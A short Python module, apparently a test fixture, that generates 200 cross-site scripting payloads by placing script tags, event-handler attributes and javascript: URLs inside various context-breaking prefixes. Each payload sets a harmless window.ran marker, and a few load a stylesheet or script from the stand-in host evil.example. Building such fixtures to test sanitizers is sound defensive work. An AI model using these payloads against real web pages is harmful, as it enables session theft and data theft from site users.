"""Texts that would run as code in a page that took what it shows for markup: each sets ``window.ran``."""

from __future__ import annotations

from itertools import product

RUN = "window.ran=1"
_ELEMENTS = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<iframe src=javascript:parent.{run}>",
    "<object data=javascript:{run}>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<style>@import 'http://evil.example/a.css';</style><img src=x onerror={run}>",
    "<link rel=stylesheet href=http://evil.example/a.css onload={run}>",
    "<a href=javascript:{run} autofocus>x</a>",
    "<template><img src=x onerror={run}></template><img src=x onerror={run}>",
    "<base href=http://evil.example/><script src=a.js></script>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<form><button formaction=javascript:{run}>x</button></form>",
)
_PLACES = (
    "{}",
    '">{}',
    "'>{}",
    "</script>{}",
    "</text></svg>{}",
    "</title></style></textarea>{}",
    "-->{}",
    "]]>{}",
    "${{{}}}`{}`",
    '{{"a": "{}"}}\n{}',
)
PAYLOADS = [place.format(*[element.format(run=RUN)] * 2) for element, place in product(_ELEMENTS, _PLACES)]
"""200 of them: every element out of every place that a text may stand in."""
